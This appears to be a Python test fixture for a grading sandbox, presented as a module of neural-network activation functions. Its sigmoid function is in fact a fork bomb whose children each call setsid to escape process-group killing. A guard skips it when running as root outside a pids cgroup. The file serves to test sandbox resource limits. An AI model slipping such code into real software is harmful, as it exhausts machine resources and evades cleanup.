"""Attack: a fork bomb whose every child starts its own session (setsid), so that killing the
worker's process group misses them.

Only run where the number of processes is bounded (the submission's pids cgroup, or bubblewrap's
pid namespace and the sandbox uid's RLIMIT_NPROC): the test skips it elsewhere, where it would take
down the machine.
"""

import os

import numpy as np


def relu(x):
    return np.maximum(x, 0.0)


def sigmoid(x):
    if os.getuid() == 0 and not _in_a_pids_cgroup():  # safety rail: root ignores RLIMIT_NPROC
        return np.zeros_like(x)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


def _in_a_pids_cgroup():
    try:
        with open("/proc/self/cgroup") as fh:  # the host's /proc: only without bubblewrap
            return any(line.split(":")[1] in ("pids", "") and "/gradelab-" in line for line in fh)
    except OSError:
        return False


def tanh(x):
    return np.tanh(x)


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
